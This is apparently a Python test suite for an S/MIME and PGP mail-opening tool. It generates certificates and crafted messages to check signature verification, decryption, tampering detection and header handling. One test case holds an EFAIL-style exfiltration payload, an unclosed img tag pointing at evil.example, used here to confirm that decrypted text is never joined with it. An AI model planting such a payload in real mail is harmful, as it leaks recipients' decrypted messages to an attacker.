#!/usr/bin/env python3
"""S/MIME in all its forms, made with openssl and throw-away certificates, opened as the opener opens them."""
import base64
import glob
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile

BUILD = os.environ.get("MADO_BUILD", os.getcwd())
OPEN_ONE = os.path.join(BUILD, "tests/unit/open-one")
results = []

TEXT = "Content-Type: text/plain; charset=utf-8\n\nThe host 192.0.2.7 scans us.\n"
HEAD = "From: %s\nTo: csirt@example.org\nSubject: Scan\nMessage-ID: <1@example.net>\nMIME-Version: 1.0\n"


def ok(name, good, detail=""):
    results.append(bool(good))
    print("%s %d - %s" % ("ok" if good else "not ok", len(results), name), flush=True)
    if not good:
        print("#   " + str(detail).replace("\n", "\n#   "), flush=True)


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode()


def run(*args, data=None):
    done = subprocess.run([str(arg) for arg in args], input=data, capture_output=True, check=False)
    if done.returncode != 0:
        raise SystemExit("# %s: %s" % (" ".join(map(str, args)), done.stderr.decode()))
    return done.stdout


# --- certificates and messages -----------------------------------------------------------------------------

class Maker:
    """A certificate authority and its clients, in files of one directory."""
    def __init__(self, directory):
        self.directory = directory
        os.mkdir(directory)
        for name in ("ca", "other"):
            run("openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", self.path(name, "key"), "-out", self.path(name, "pem"),
                "-subj", "/CN=%s authority" % name, "-days", "3650", "-addext", "keyUsage=critical,keyCertSign,cRLSign")
        self.serial = 0x4000

    def path(self, name, kind):
        return os.path.join(self.directory, "%s.%s" % (name, kind))

    def certificate(self, name, address, authority="ca", days="365", key=None):
        self.serial += 1
        with open(self.path(name, "ext"), "w", encoding="ascii") as out:
            out.write("basicConstraints=CA:FALSE\nkeyUsage=digitalSignature,keyEncipherment,keyAgreement\n"
                      "extendedKeyUsage=emailProtection\nsubjectAltName=email:%s\n" % address)
        run("openssl", "req", *(key or ("-newkey", "rsa:2048")), "-nodes", "-keyout", self.path(name, "key"), "-out", self.path(name, "csr"),
            "-subj", "/C=JP/O=Example/CN=%s" % name)
        run("openssl", "x509", "-req", "-in", self.path(name, "csr"), "-CA", self.path(authority, "pem"), "-CAkey", self.path(authority, "key"),
            "-set_serial", self.serial, "-days", days, "-extfile", self.path(name, "ext"), "-out", self.path(name, "pem"))

    def sign(self, who, text=TEXT, *options, others=(), authority="ca"):
        signers = [x for name in (who, *others) for x in ("-signer", self.path(name, "pem"), "-inkey", self.path(name, "key"))]
        return run("openssl", "cms", "-sign", "-binary", "-outform", "DER", *(("-certfile", self.path(authority, "pem")) if authority else ()), *options, *signers, data=crlf(text))

    def encrypt(self, who, text=TEXT, *options, cipher="-aes-256-cbc", oaep=False):
        names = [who] if isinstance(who, str) else who
        to = [x for name in names for x in (("-recip", self.path(name, "pem"), "-keyopt", "rsa_padding_mode:oaep") if oaep
                                            else ("-recip", self.path(name, "pem")))]
        return run("openssl", "cms", "-encrypt", "-binary", "-outform", "DER", cipher, *options, *to, data=crlf(text))

    def fingerprint(self, name):
        return run("openssl", "x509", "-in", self.path(name, "pem"), "-noout", "-fingerprint", "-sha1").decode().strip().split("=")[1]


def b64(data):
    return base64.encodebytes(data).decode()


def pem(data, label="CMS"):
    return ("-----BEGIN %s-----\n%s-----END %s-----\n" % (label, b64(data), label)).encode()


def opaque(data, kind="enveloped-data", media="application/pkcs7-mime", name="smime.p7m"):
    return ('Content-Type: %s; smime-type=%s; name="%s"\nContent-Transfer-Encoding: base64\n\n%s' % (media, kind, name, b64(data)))


def detached(signature, part=TEXT, protocol="application/pkcs7-signature"):
    return ('Content-Type: multipart/signed; protocol="%s"; micalg=sha-256; boundary="sig"\n\n--sig\n%s\n--sig\n'
            "Content-Type: %s; name=smime.p7s\nContent-Transfer-Encoding: base64\n\n%s\n--sig--\n"
            % (protocol, part.rstrip("\n"), protocol, b64(signature)))


def head(sender="alice@example.net"):
    return HEAD % sender


# --- DER, to make what openssl does not ---------------------------------------------------------------------

def der_read(data, at=0):
    length, body = data[at + 1], at + 2
    if length & 0x80:
        body += length & 0x7F
        length = int.from_bytes(data[at + 2:body], "big")
    return data[at], data[body:body + length], body + length


def der_children(data):
    at, out = 0, []
    while at < len(data):
        tag, body, at = der_read(data, at)
        out.append((tag, body))
    return out


def der(tag, *parts):
    body = b"".join(parts)
    if len(body) < 128:
        return bytes([tag, len(body)]) + body
    size = (len(body).bit_length() + 7) // 8
    return bytes([tag, 0x80 | size]) + len(body).to_bytes(size, "big") + body


def change_inner(data, change):
    """The ContentInfo @data with the list of fields of its content changed."""
    kind, wrapped = der_children(der_read(data)[1])
    fields = der_children(der_children(wrapped[1])[0][1])
    return der(0x30, der(*kind), der(0xA0, der(0x30, *[der(*field) for field in change(fields)])))


def spoil(data, offset):
    at = len(data) + offset
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1:]


# --- the gateway -------------------------------------------------------------------------------------------

class Gateway:
    def __init__(self, work):
        self.work, self.home = work, work + "/t"
        os.mkdir(self.home, 0o700)
        self.conf = work + "/conf"
        self.make = Maker(work + "/ca")
        with open(self.home + "/gpgsm.conf", "w", encoding="ascii") as out:
            out.write("disable-dirmngr\nno-common-certs-import\n")

    def configure(self, trust):
        with open(self.work + "/trust", "w", encoding="ascii") as out:
            out.write(trust)
        with open(self.conf, "w", encoding="ascii") as out:
            out.write("[team]\nname = T\naddress = csirt@example.org\n[crypto]\ngnupg-home = %s\nmax-plaintext = 4M\n"
                      "smime-trust = %s/trust\n[limits]\nwall = 20s\nrecipients = 5\n" % (self.home, self.work))

    def import_secret(self, name):
        bundle = run("openssl", "pkcs12", "-export", "-legacy", "-inkey", self.make.path(name, "key"), "-in", self.make.path(name, "pem"),
                     "-passout", "pass:")
        with open(self.work + "/p12", "wb") as out:
            out.write(bundle)
        run("gpgsm", "--homedir", self.home, "--batch", "--pinentry-mode", "loopback", "--passphrase-fd", "0", "--import", self.work + "/p12",
            data=b"")

    def import_curve(self, name):
        """gpgsm cannot import such a key; gpg-agent can hold it."""
        def atom(data):
            return str(len(data)).encode() + b":" + data
        run("gpgsm", "--homedir", self.home, "--batch", "--import", self.make.path(name, "pem"))
        words = run("openssl", "ec", "-in", self.make.path(name, "key"), "-noout", "-text").decode()
        secret, public = (bytes.fromhex(re.sub(r"[\s:]", "", found)) for found in re.search(r"priv:(.*?)pub:(.*?)ASN1", words, re.S).groups())
        rows = run("gpgsm", "--homedir", self.home, "--with-colons", "--with-keygrip", "-k", "CN=" + name).decode().splitlines()
        grip = next(row.split(":")[9] for row in rows if row.startswith("grp:"))
        with open("%s/private-keys-v1.d/%s.key" % (self.home, grip), "wb") as out:
            out.write(b"(" + atom(b"private-key") + b"(" + atom(b"ecc") + b"(" + atom(b"curve") + atom(b"NIST P-256") + b")(" + atom(b"q")
                      + atom(public) + b")(" + atom(b"d") + atom(secret) + b")))")

    def open(self, mails, check=True):
        names = []
        for number, mail in enumerate(mails):
            names.append("%s/m%d.eml" % (self.work, number))
            with open(names[-1], "wb") as out:
                out.write(mail if isinstance(mail, bytes) else mail.encode())
        done = subprocess.run([OPEN_ONE, self.conf, self.work + "/r", *names], capture_output=True, check=False)
        self.errors = done.stderr.decode()
        reports = [json.loads(line) for line in done.stdout.decode().splitlines()]
        if check and len(reports) != len(mails):
            raise SystemExit("# open-one said: " + self.errors)
        return reports

    def close(self):
        subprocess.run(["gpgconf", "--homedir", self.home, "--kill", "all"], check=False)
        shutil.rmtree(self.work, ignore_errors=True)


def make_certificates(gateway):
    make = gateway.make
    for who in ("alice", "bob"):
        make.certificate(who, "%s@example.net" % who)
    make.certificate("team", "csirt@example.org")
    make.certificate("stranger", "stranger@example.net")
    make.certificate("outsider", "alice@example.net", authority="other")
    make.certificate("absent", "alice@example.net")
    make.certificate("curve", "csirt@example.org", key=("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"))
    make.certificate("ourcurve", "csirt@example.org", key=("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1"))
    gateway.import_secret("team")
    gateway.import_curve("ourcurve")
    run("openssl", "x509", "-req", "-in", make.path("alice", "csr"), "-CA", make.path("ca", "pem"), "-CAkey", make.path("ca", "key"),
        "-set_serial", "77", "-days", "-1", "-extfile", make.path("alice", "ext"), "-out", make.path("expired", "pem"))
    shutil.copy(make.path("alice", "key"), make.path("expired", "key"))
    gateway.configure("# who may vouch\n%s\n" % make.fingerprint("ca"))


def summary(report):
    return report["encryption"], report["signature"]


def reason(report):
    return (report["undecryptable"] or {}).get("reason")


def layer(report, number=0):
    return report["layers"][number]


def says(report, word):
    return any(word in problem for problem in report["problems"])


def signature_cases(m):
    signed, loose = m.sign("alice", TEXT, "-nodetach"), m.sign("alice", TEXT.rstrip("\n"))
    blanks = TEXT.rstrip("\n") + "  \n\t\n and\rso on"
    fields = "From: alice@example.net\nTo: csirt@example.org\nMessage-ID: <1@example.net>\nSubject: Real\n"
    protected = fields + TEXT.replace("utf-8\n", 'utf-8; hp="clear"\n', 1)
    wrapped = "Content-Type: message/rfc822; forwarded=no\n\n" + fields + "MIME-Version: 1.0\n" + TEXT
    rebuilt = detached(loose).replace('multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256', "multipart/mixed", 1)
    two = m.sign("alice", TEXT, "-nodetach", others=["bob"])
    no_signer = change_inner(signed, lambda fields: fields[:-1] + [(0x31, b"")])
    spoilt = change_inner(two, lambda fields: fields[:-1] + [(0x31, spoil_second(fields[-1][1]))])
    good = lambda r: summary(r) == ("none", "good") and r["signer"]["matches_from"] and r["signer"]["vouched_by"] == "smime-chain" \
        and "192.0.2.7" in r["text"] and layer(r)["protocol"] == "smime" and layer(r)["operation"] == "verify"
    shown = lambda status: lambda r: r["signature"] == status and "192.0.2." in r["text"] and not (r["signer"] or {}).get("vouched_by")
    return [
        ("opaque", head() + opaque(signed, "signed-data"), lambda r: good(r) and layer(r)["signatures"][0]["hash"] == "SHA256"
         and not r["parts"]),
        ("opaque, old media type", head() + opaque(signed, "signed-data", "application/x-pkcs7-mime"), good),
        ("opaque, streamed", head() + opaque(m.sign("alice", TEXT, "-nodetach", "-stream"), "signed-data"), good),
        ("opaque, named as a file only", head() + opaque(signed, "signed-data", "application/octet-stream"), good),
        ("opaque, smime-type lies", head() + opaque(signed, "enveloped-data"), good),
        ("opaque, smime-type lies about certificates", head() + opaque(signed, "certs-only"), good),
        ("detached", head() + detached(loose), lambda r: good(r) and not r["parts"]),
        ("detached, CR LF in the file", crlf(head() + detached(loose)), good),
        ("detached, old media type", head() + detached(loose, TEXT, "application/x-pkcs7-signature"), good),
        ("signed without signing time", head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-noattr")), good),
        ("detached, changed", head() + detached(loose, TEXT.replace("192.0.2.7", "192.0.2.8")), shown("bad")),
        ("opaque, changed", head() + opaque(signed.replace(b"192.0.2.7", b"192.0.2.8"), "signed-data"), shown("bad")),
        ("signed by Alice, From: Bob", head("bob@example.net") + detached(loose),
         lambda r: r["signature"] == "good-untrusted" and not r["signer"]["matches_from"]),
        ("the address in the name is no address", head('"alice@example.net" <bob@example.net>') + detached(loose),
         lambda r: r["signature"] == "good-untrusted" and not r["signer"]["matches_from"]),
        ("two senders", head("alice@example.net, bob@example.net") + detached(loose), lambda r: r["signature"] == "good-untrusted"),
        ("an authority that nobody trusts", head() + detached(m.sign("outsider", TEXT.rstrip("\n"), authority="other")),
         lambda r: shown("good-untrusted")(r) and r["signer"]["matches_from"] and r["signer"]["validity"] == "unknown"),
        ("the authority's certificate is missing", head() + detached(m.sign("alice", TEXT.rstrip("\n"), authority=None)), shown("good-untrusted")),
        ("an unknown certificate", head() + detached(m.sign("absent", TEXT.rstrip("\n"), "-nocerts")), shown("unknown-key")),
        ("an expired certificate", head() + detached(m.sign("expired", TEXT.rstrip("\n"))), lambda r: r["signature"] == "expired-key"),
        ("SHA-1 today", head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-md", "sha1")),
         lambda r: shown("unsupported")(r) and layer(r)["signatures"][0]["hash"] == "SHA1"),
        ("SHA-1 without a time", head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-md", "sha1", "-noattr")), shown("unsupported")),
        ("MD5", head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-md", "md5")), shown("unsupported")),
        ("two signers", head() + opaque(two, "signed-data"), lambda r: good(r) and len(layer(r)["signatures"]) == 2),
        ("two signers, the second one wrong", head() + opaque(spoilt, "signed-data"), shown("bad")),
        ("no signer", head() + opaque(no_signer, "signed-data"), lambda r: r["signature"] == "bad" and r["signer"] is None),
        ("a detached signature that brings its own text", head() + detached(signed, TEXT.replace("192.0.2.7", "203.0.113.9")),
         lambda r: r["signature"] == "bad" and says(r, "another text") and "203.0.113.9" in r["text"]),
        ("a signature part that is junk", head() + detached(b"junk"), lambda r: r["signature"] == "bad" and "192.0.2.7" in r["text"]),
        ("certificates only", head() + opaque(run("openssl", "crl2pkcs7", "-nocrl", "-certfile", m.path("alice", "pem"), "-outform", "DER"), "certs-only", name="smime.p7c"),
         lambda r: summary(r) == ("none", "none") and not r["layers"] and not r["problems"] and r["undecryptable"] is None
         and [(k["fingerprint"], k["source"], k["protocol"], k["user_ids"]) for k in r["keys_offered"]]
         == [(m.fingerprint("alice").replace(":", ""), "attached", "smime", ["alice@example.net", "CN=alice,O=Example,C=JP"])]),
        ("two certificates, named as a file only", head() + opaque(run("openssl", "crl2pkcs7", "-nocrl", "-certfile", m.path("alice", "pem"), "-certfile",
         m.path("ca", "pem"), "-outform", "DER"), "x", "application/octet-stream", "keys.p7c"), lambda r: not r["layers"] and [k["user_ids"][-1] for k in r["keys_offered"]]
         == ["CN=alice,O=Example,C=JP", "CN=ca authority"]),
        ("a signature that brings certificates along offers none", head() + opaque(signed, "signed-data"), lambda r: not r["keys_offered"]),
        ("opaque, in PEM", head() + opaque(pem(signed), "signed-data"), good),
        ("opaque, in PEM of another name", head() + opaque(pem(signed, "PKCS7"), "signed-data"), good),
        ("opaque, base64 that nobody names", head() + opaque(signed, "signed-data").replace("Content-Transfer-Encoding: base64\n", ""), good),
        ("opaque, no smime-type", head() + opaque(signed).replace("smime-type=enveloped-data; ", ""), good),
        ("opaque, no name", head() + opaque(signed, "signed-data").replace('; name="smime.p7m"', ""), good),
        ("detached, in PEM", head() + detached(pem(loose)), good),
        ("detached, its bytes as they are", (head() + detached(m.sign("alice", blanks))).replace(TEXT.rstrip("\n"), blanks), good),
        ("a header inside (RFC 9788)", head() + opaque(m.sign("alice", protected, "-nodetach"), "signed-data"), lambda r: good(r) and r["subject"] == "Real"
         and [(d["name"], d["outer"]) for d in r["header_differences"]][-1] == ("Subject", "Scan")),
        ("a wrapped mail (RFC 8551)", head() + detached(m.sign("alice", wrapped.rstrip("\n")), wrapped), lambda r: good(r) and r["subject"] == "Real"),
        ("rebuilt as multipart/mixed, the text intact", head() + rebuilt, lambda r: good(r) and layer(r)["form"] == "mangled" and layer(r)["covers"] == "whole"),
        ("rebuilt, the signature as octet-stream", head() + rebuilt.replace("application/pkcs7-signature", "application/octet-stream"), good),
        ("rebuilt, and changed: nobody can tell why", head() + rebuilt.replace("192.0.2.7", "192.0.2.8"), lambda r: summary(r) == ("none", "none") and not r["layers"]
         and says(r, "rebuilt")),
        ("rebuilt, From: Bob", head("bob@example.net") + rebuilt, lambda r: r["signature"] == "good-untrusted"),
        ("rebuilt, with a footer", head() + rebuilt.replace("--sig--", "--sig\n\nfooter\n--sig--"), lambda r: summary(r) == ("none", "none") and says(r, "rebuilt")),
        ("a footer outside the signature", head() + 'Content-Type: multipart/mixed; boundary="o"\n\n--o\n' + detached(loose)
         + "\n--o\nContent-Type: text/plain\n\nfooter\n--o--\n", lambda r: summary(r) == ("none", "partial") and r["signer"] is None),
        ("three parts are no signed message", head() + detached(loose).replace("--sig--", "--sig\n\nmore\n--sig--"),
         lambda r: r["signature"] == "bad"),
        ("cut short", head() + opaque(signed[:-200], "signed-data"), lambda r: r["signature"] not in ("good", "good-untrusted")),
    ]


def spoil_second(infos):
    first, second = der_children(infos)
    return der(*first) + der(second[0], spoil(second[1], -5))


def encryption_cases(m):
    cbc, gcm = m.encrypt("team"), m.encrypt("team", cipher="-aes-256-gcm")
    signed = opaque(m.sign("alice", TEXT, "-nodetach"), "signed-data")
    loose = detached(m.sign("alice", TEXT.rstrip("\n")))
    opened = lambda r: r["encryption"] == "whole" and r["undecryptable"] is None and "192.0.2.7" in r["text"]
    short_tag = change_inner(gcm, lambda fields: fields[:-1] + [(4, fields[-1][1][:4])])
    attached = ('Content-Type: multipart/mixed; boundary="in"\n\n--in\n%s\n--in\nContent-Type: application/pdf; name=a.pdf\n'
                "Content-Transfer-Encoding: base64\n\nSGVsbG8=\n--in--\n" % TEXT)
    return [
        ("CBC: opened, and said to be unprotected", head() + opaque(cbc), lambda r: opened(r) and r["signature"] == "none"
         and layer(r)["integrity"] == "none" and says(r, "not protected against changes") and layer(r)["encrypted_to"][0].endswith("CN=ca authority")),
        ("CBC, streamed", head() + opaque(m.encrypt("team", TEXT, "-stream")), opened),
        ("3DES", head() + opaque(m.encrypt("team", cipher="-des3")), lambda r: opened(r) and layer(r)["integrity"] == "none"),
        ("GCM: authenticated", head() + opaque(gcm, "authEnveloped-data"), lambda r: opened(r) and layer(r)["integrity"] == "aead"
         and not says(r, "changes")),
        ("GCM, streamed", head() + opaque(m.encrypt("team", TEXT, "-stream", cipher="-aes-128-gcm"), "authEnveloped-data"),
         lambda r: opened(r) and layer(r)["integrity"] == "aead"),
        ("smime-type lies", head() + opaque(cbc, "signed-data"), opened),
        ("named as a file only", head() + opaque(cbc, "x", "application/octet-stream"), opened),
        ("several recipients", head() + opaque(m.encrypt(["stranger", "team"])), lambda r: opened(r) and len(layer(r)["encrypted_to"]) == 2),
        ("signed inside encrypted", head() + opaque(m.encrypt("team", signed)), lambda r: opened(r) and r["signature"] == "good"
         and not says(r, "changes") and [x["part"] for x in r["layers"]] == ["1", "1.1"]),
        ("signed (detached) inside encrypted", head() + opaque(m.encrypt("team", loose)), lambda r: opened(r) and r["signature"] == "good"),
        ("encrypted inside signed: the outer signature does not count", head() + opaque(m.sign("alice", opaque(cbc), "-nodetach"), "signed-data"),
         lambda r: opened(r) and r["signature"] == "none" and r["signer"] is None and says(r, "not protected")),
        ("signed in encrypted in signed", head() + opaque(m.sign("bob", opaque(m.encrypt("team", signed)), "-nodetach"), "signed-data"),
         lambda r: opened(r) and r["signature"] == "good" and r["signer"]["user_ids"] == ["alice@example.net"]),
        ("an attachment", head() + opaque(m.encrypt("team", attached)), lambda r: opened(r) and [(p["path"], p["decrypted"]) for p in r["parts"]]
         == [("1.1.2", True)]),
        ("not for us", head() + opaque(m.encrypt("stranger")), lambda r: reason(r) == "no-secret-key" and r["encryption"] == "whole"
         and len(r["undecryptable"]["encrypted_to"]) == 1 and r["text"] == ""),
        ("GCM, not for us", head() + opaque(m.encrypt("stranger", cipher="-aes-256-gcm")), lambda r: reason(r) == "no-secret-key"),
        ("elliptic curves, for us: gpgsm 2.2 cannot", head() + opaque(m.encrypt("ourcurve")), lambda r: reason(r) == "unsupported" and says(r, "elliptic")
         and r["encryption"] == "whole"),
        ("the same with GCM", head() + opaque(m.encrypt("ourcurve", cipher="-aes-256-gcm"), "authEnveloped-data"), lambda r: reason(r) == "unsupported"
         and says(r, "elliptic")),
        ("elliptic curves for us, and RSA", head() + opaque(m.encrypt(["ourcurve", "team"])), opened),
        ("elliptic curves, not for us", head() + opaque(m.encrypt("curve")), lambda r: reason(r) == "no-secret-key"),
        ("RSA-OAEP", head() + opaque(m.encrypt("team", oaep=True)), lambda r: reason(r) == "unsupported" and says(r, "OAEP")),
        ("a recipient named by key id", head() + opaque(m.encrypt("team", TEXT, "-keyid")), lambda r: reason(r) == "unsupported" and r["problems"]),
        ("more recipients than we try", head() + opaque(m.encrypt(["stranger", "alice", "bob", "outsider", "absent", "team"])),
         lambda r: reason(r) == "limit"),
        ("GCM, text changed", head() + opaque(spoil(gcm, -25)), lambda r: reason(r) == "corrupt" and r["text"] == ""),
        ("GCM, tag changed", head() + opaque(spoil(gcm, -1)), lambda r: reason(r) == "corrupt" and r["text"] == ""),
        ("GCM, tag too short", head() + opaque(short_tag), lambda r: reason(r) == "corrupt" and r["text"] == "" and layer(r)["integrity"] == "none"),
        ("GCM, cut short", head() + opaque(gcm[:-40]), lambda r: reason(r) == "corrupt" and r["text"] == ""),
        ("CBC, padding destroyed", head() + opaque(spoil(cbc, -20)), lambda r: r["text"] == "" or says(r, "not protected")),
        ("CBC, cut short", head() + opaque(cbc[:-40]), lambda r: reason(r) is not None and r["text"] == ""),
        ("junk called encrypted", head() + opaque(b"junk"), lambda r: reason(r) == "corrupt" and r["encryption"] == "none"),
        ("nothing called encrypted", head() + opaque(b""), lambda r: reason(r) == "corrupt" and r["encryption"] == "none"),
        ("plaintext over the cap", head() + opaque(m.encrypt("team", "Content-Type: text/plain\n\n" + "A" * 5_000_000)), lambda r: reason(r) == "limit"
         and r["text"] == ""),
        ("compressed data is no layer", head() + opaque(der(0x30, der(6, bytes.fromhex("2a864886f70d0109100109")), der(0xA0, der(0x30))), "compressed-data", name="smime.p7z"),
         lambda r: summary(r) == ("none", "none") and not r["layers"] and reason(r) == "unsupported" and says(r, "compressed")),
        ("compressed data inside encryption", head() + opaque(m.encrypt("team", opaque(der(0x30, der(6, bytes.fromhex("2a864886f70d0109100109")), der(0xA0, der(0x30)))))),
         lambda r: r["encryption"] == "whole" and reason(r) == "unsupported" and says(r, "compressed")),
        ("other CMS data", head() + opaque(der(0x30, der(6, bytes.fromhex("2a864886f70d010705")), der(0xA0, der(0x30)))), lambda r: summary(r) == ("none", "none")
         and reason(r) == "unsupported" and r["problems"]),
        ("in PEM", head() + opaque(pem(cbc)), opened),
        ("GCM, in PEM", head() + opaque(pem(gcm), "authEnveloped-data"), lambda r: opened(r) and layer(r)["integrity"] == "aead"),
        ("old media type", head() + opaque(cbc, media="application/x-pkcs7-mime"), opened),
        ("no smime-type", head() + opaque(cbc).replace("smime-type=enveloped-data; ", ""), opened),
        ("not encoded", head().encode() + b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: binary\n\n" + cbc, opened),
        ("AES-128", head() + opaque(m.encrypt("team", cipher="-aes-128-cbc")), opened),
        ("a header inside (RFC 9788)", head() + opaque(m.encrypt("team", opaque(m.sign("alice", "From: alice@example.net\nSubject: Real\nHP-Outer: Subject: Scan\n"
         + TEXT.replace("utf-8\n", 'utf-8; hp="cipher"\n', 1), "-nodetach"), "signed-data"))), lambda r: opened(r) and r["subject"] == "Real"
         and r["signature"] == "good"),
        ("signed in encrypted in encrypted", head() + opaque(m.encrypt("team", opaque(m.encrypt("team", signed)))), lambda r: opened(r) and r["signature"] == "good"
         and len(r["layers"]) == 3),
        ("PGP signed in S/MIME encrypted", head() + opaque(m.encrypt("team", pgp_signed(m))), lambda r: opened(r) and [x["operation"] for x in r["layers"]]
         == ["decrypt", "verify"] and r["layers"][1]["signatures"][0]["status"] == "good-untrusted"),
        ("a text beside it is never joined with it", head() + 'Content-Type: multipart/mixed; boundary="o"\n\n--o\nContent-Type: text/html\n\n'
         "<img src='http://evil.example/?\n--o\n" + opaque(cbc) + "\n--o--\n", lambda r: r["encryption"] == "partial"
         and ("192.0.2.7" not in r["text"] or "evil" not in r["text"])),
        ("PGP in S/MIME", head() + opaque(m.encrypt("team", pgp_wrap(m))), lambda r: opened(r) and [x["protocol"] for x in r["layers"]]
         == ["smime", "openpgp"] and says(r, "not protected")),
        ("S/MIME in PGP", head() + pgp_wrap(m, signed), lambda r: opened(r) and [x["protocol"] for x in r["layers"]] == ["openpgp", "smime"]
         and r["signature"] == "good"),
    ]


def pgp_signed(m):
    body = TEXT.rstrip("\n")
    signature = run("gpg", "--homedir", m.pgp_home, "--batch", "--armor", "--detach-sign", data=crlf(body)).decode()
    return ('Content-Type: multipart/signed; protocol="application/pgp-signature"; micalg=pgp-sha512; boundary="psig"\n\n--psig\n%s\n--psig\n'
            "Content-Type: application/pgp-signature\n\n%s\n--psig--\n" % (body, signature))


def pgp_wrap(m, text=TEXT):
    cipher = run("gpg", "--homedir", m.pgp_home, "--batch", "--trust-model", "always", "--armor", "-r", "csirt@example.org", "--encrypt", data=crlf(text)).decode()
    return ('Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="enc"\n\n'
            "--enc\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
            "--enc\nContent-Type: application/octet-stream\n\n%s\n--enc--\n" % cipher)


def check_all(gateway, cases):
    for (name, _, test), report in zip(cases, gateway.open([mail for _, mail, _ in cases])):
        try:
            good = test(report)
        except (KeyError, IndexError, TypeError) as problem:
            good, report = False, "%r in %s" % (problem, report)
        ok(name, good, json.dumps(report, ensure_ascii=False))


def test_clean(gateway):
    """No certificate of a mail is kept: not in the team's ring, and not for the next mail."""
    m = gateway.make
    brings = head() + detached(m.sign("alice", TEXT.rstrip("\n")))
    relies = head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-nocerts"))
    with open(gateway.home + "/pubring.kbx", "rb") as ring:
        before = ring.read()
    reports = gateway.open([brings, relies, brings])
    ok("what one mail brings is gone at the next one", [r["signature"] for r in reports] == ["good", "unknown-key", "good"], reports)
    with open(gateway.home + "/pubring.kbx", "rb") as ring:
        ok("the team's ring is as it was", ring.read() == before and not glob.glob(gateway.home + "/*.lock"), os.listdir(gateway.home))
    left = glob.glob(gateway.work + "/r/**/x509*", recursive=True)
    ok("nothing is left in the private home", not left, left)


def test_beside(gateway):
    """Workers beside each other, on one ring, do not disturb each other."""
    m = gateway.make
    kinds = [("sealed", head() + opaque(m.encrypt("team", opaque(m.sign("alice", TEXT, "-nodetach"), "signed-data")))),
             ("unknown", head() + detached(m.sign("alice", TEXT.rstrip("\n"), "-nocerts"))), ("foreign", head() + opaque(m.encrypt("stranger")))]
    names = []
    for name, mail in kinds * 4:
        names.append("%s/%s.eml" % (gateway.work, name))
        with open(names[-1], "w", encoding="utf-8") as out:
            out.write(mail)
    runs = [subprocess.Popen([OPEN_ONE, gateway.conf, "%s/r%d" % (gateway.work, number), *names], stdout=subprocess.PIPE) for number in range(3)]
    said = [[(r.get("encryption"), r.get("signature"), reason(r) if "undecryptable" in r else r) for r in map(json.loads, one.communicate()[0].splitlines())]
            for one in runs]
    wanted = [("whole", "good", None), ("none", "unknown-key", None), ("whole", "none", "no-secret-key")] * 4
    ok("three workers at the same time", all(one == wanted for one in said), said)


def test_trust(gateway):
    mail = head() + detached(gateway.make.sign("alice", TEXT.rstrip("\n")))
    gateway.configure("# nobody\n")
    ok("without a trust list nothing is good", gateway.open([mail])[0]["signature"] == "good-untrusted")
    gateway.configure("this is no fingerprint\n")
    ok("a broken trust list is named", gateway.open([mail], check=False) == [] and re.search(r"trust:1: no SHA-1", gateway.errors), gateway.errors)
    gateway.configure(gateway.make.fingerprint("ca").replace(":", "").lower() + "\n")
    ok("a fingerprint without colons counts", gateway.open([mail])[0]["signature"] == "good")


def main():
    for program in ("openssl", "gpgsm"):
        if shutil.which(program) is None:
            print("1..0 # SKIP %s is not installed" % program)
            return 0
    if not os.path.exists(OPEN_ONE):
        print("1..0 # SKIP %s was not built" % OPEN_ONE)
        return 0
    gateway = Gateway(tempfile.mkdtemp(prefix="m", dir="/tmp"))
    try:
        make_certificates(gateway)
        run("gpg", "--homedir", gateway.home, "--batch", "--passphrase", "", "--quick-generate-key", "Team <csirt@example.org>", "future-default", "default", "never")
        gateway.make.pgp_home = gateway.home
        check_all(gateway, signature_cases(gateway.make))
        check_all(gateway, encryption_cases(gateway.make))
        test_clean(gateway)
        test_beside(gateway)
        test_trust(gateway)
    finally:
        gateway.close()
    print("1..%d" % len(results))
    return 0 if all(results) else 1


if __name__ == "__main__":
    sys.exit(main())
